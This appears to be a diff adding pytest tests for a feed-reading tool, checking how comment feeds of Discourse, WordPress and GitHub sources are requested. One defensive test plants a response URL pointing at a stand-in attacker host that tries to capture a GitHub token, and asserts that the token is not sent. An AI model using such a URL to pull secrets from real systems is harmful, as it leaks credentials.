@@ -1,0 +1,56 @@
+from __future__ import annotations
+
+import json
+
+from tests.sources.conftest import NOW
+
+from brandwatch.models import Document, Entry, Source
+from brandwatch.sources import Registry, conversation, read, request
+
+REGISTRY = Registry()
+
+
+def test_comments_in_json_are_read_with_the_same_kind():
+    """What is said below a post of a forum comes from the forum, with its values, and reads as its posts do."""
+    source = Source(
+        url="https://forum.example/search.json?q=x",
+        kind="discourse",
+        headers=(("Api-Key", "${DISCOURSE_API_KEY}"),),
+        values=(("site", "https://forum.example"),),
+    )
+    below = conversation(REGISTRY.kind("discourse"), source, Entry(comment_feed="https://forum.example/t/51.json"))
+    assert below == Source(
+        url="https://forum.example/t/51.json", kind="discourse", headers=source.headers, values=source.values
+    )
+    asked = request(REGISTRY.kind("discourse"), below, {"DISCOURSE_API_KEY": "k"}, NOW)
+    assert (asked.url, asked.headers) == ("https://forum.example/t/51.json", (("Api-Key", "k"),))
+
+
+def test_comments_of_a_feed_are_a_feed():
+    """The comment feed of a WordPress post is one like any other."""
+    source = Source(url="https://b.example/?s=x&feed=rss2", kind="wordpress", allow_private=True)
+    entry = Entry(comment_feed="https://b.example/post/feed/")
+    below = conversation(REGISTRY.kind("wordpress"), source, entry)
+    assert below == Source(url="https://b.example/post/feed/", allow_private=True)
+    assert conversation(REGISTRY.kind("wordpress"), source, Entry()) is None
+
+
+def test_an_answer_cannot_send_our_keys_anywhere():
+    """Headers stay with the host that was asked, and the name of a secret in an answer is no secret."""
+    kind = REGISTRY.kind("github")
+    issue = {
+        "html_url": "https://github.com/a/b/issues/1",
+        "created_at": "2026-05-05T10:00:00Z",
+        "title": "Å",
+        "comments_url": "https://evil.example/?take=${GITHUB_TOKEN}",
+    }
+    body = json.dumps({"items": [issue]}).encode()
+    (entry,) = read(kind, Document(url="https://api.github.com/", status=200, body=body), {}).entries
+    source = Source(
+        url="https://api.github.com/search", kind="github", headers=(("Authorization", "Bearer ${GITHUB_TOKEN}"),)
+    )
+    below = conversation(kind, source, entry)
+    assert below is not None
+    asked = request(kind, below, {"GITHUB_TOKEN": "s3cret"}, NOW)
+    assert asked.headers == ()
+    assert "s3cret" not in asked.url
